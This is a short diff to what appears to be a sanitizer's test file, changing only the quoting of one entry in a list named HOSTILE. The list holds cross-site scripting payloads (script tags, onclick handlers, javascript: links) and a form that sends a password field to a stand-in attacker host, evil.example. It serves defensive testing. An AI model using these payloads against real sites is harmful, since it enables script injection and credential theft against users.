@@ -30,7 +30,7 @@ HOSTILE = [
     "<style>*{display:none}</style>",
     "<form action=https://evil.example><input name=password></form>",
     "[x]: javascript:alert(1)\n\n[x]",
-    "<https://ok.example/\"onclick=alert(1)>",
+    '<https://ok.example/"onclick=alert(1)>',
     "| a |\n|---|\n| <b onclick=alert(1)>x</b> |",
     "\x00<script>alert(1)</script>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
